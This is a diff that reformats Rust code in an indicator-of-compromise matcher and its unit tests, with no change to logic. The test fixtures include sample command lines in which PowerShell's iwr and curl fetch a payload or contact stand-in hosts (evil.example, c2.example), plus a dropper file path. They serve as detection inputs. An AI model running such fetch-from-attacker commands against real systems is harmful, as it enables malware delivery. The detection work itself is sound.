@@ -300,7 +300,13 @@ impl IndicatorSet {
                 continue;
             }
             let end = line[at..]
-                .find(|c: char| c.is_whitespace() || matches!(c, '"' | '\'' | '<' | '>' | '`' | '|' | '^' | ')' | ';' | ','))
+                .find(|c: char| {
+                    c.is_whitespace()
+                        || matches!(
+                            c,
+                            '"' | '\'' | '<' | '>' | '`' | '|' | '^' | ')' | ';' | ','
+                        )
+                })
                 .map_or(line.len(), |e| at + e);
             let text = &line[start..end];
             let Ok(url) = indicator::url(&indicator::refang(text)) else {
@@ -330,7 +336,11 @@ impl IndicatorSet {
 
     /// Looks for the indicators in an event, reading members through `get`
     /// (a string member's content); hits go to `out`.
-    pub fn match_event<'a>(&self, get: impl Fn(&str) -> Option<Cow<'a, str>>, out: &mut Vec<IocHit>) {
+    pub fn match_event<'a>(
+        &self,
+        get: impl Fn(&str) -> Option<Cow<'a, str>>,
+        out: &mut Vec<IocHit>,
+    ) {
         if self.indicators.is_empty() {
             return;
         }
@@ -384,7 +394,13 @@ mod tests {
             vec![format!("sha256:{SHA}@SHA256HashData")]
         );
         // A hash inside a command line, or a prefix of one, is not a match.
-        assert!(hits(&s, &[("CommandLine", &format!("certutil -hashfile x {SHA}"))]).is_empty());
+        assert!(
+            hits(
+                &s,
+                &[("CommandLine", &format!("certutil -hashfile x {SHA}"))]
+            )
+            .is_empty()
+        );
         assert!(hits(&s, &[("SHA256HashData", &SHA[..63])]).is_empty());
         // An IP must not match a longer IP.
         assert!(hits(&s, &[("RemoteAddressIP4", "10.0.0.10")]).is_empty());
@@ -416,7 +432,13 @@ mod tests {
         );
         assert!(hits(&s, &[("DomainName", "notevil.test")]).is_empty());
         assert_eq!(
-            hits(&s, &[("ImageFileName", "\\Device\\HarddiskVolume3\\Users\\a\\DROPPER.EXE")]),
+            hits(
+                &s,
+                &[(
+                    "ImageFileName",
+                    "\\Device\\HarddiskVolume3\\Users\\a\\DROPPER.EXE"
+                )]
+            ),
             vec!["file-name:dropper.exe@ImageFileName"]
         );
         assert!(hits(&s, &[("ImageFileName", "C:\\x\\notdropper.exe")]).is_empty());
@@ -439,7 +461,13 @@ mod tests {
             ),
             vec!["url:http://evil.example/payload.ps1@CommandLine"]
         );
-        assert!(hits(&s, &[("CommandLine", "iwr http://evil.example/payload.ps1x")]).is_empty());
+        assert!(
+            hits(
+                &s,
+                &[("CommandLine", "iwr http://evil.example/payload.ps1x")]
+            )
+            .is_empty()
+        );
         // Hosts of URLs are read for domains only when asked.
         assert!(hits(&s, &[("CommandLine", "curl https://c2.example/x")]).is_empty());
         let s = set("domain,c2.example\n", true);
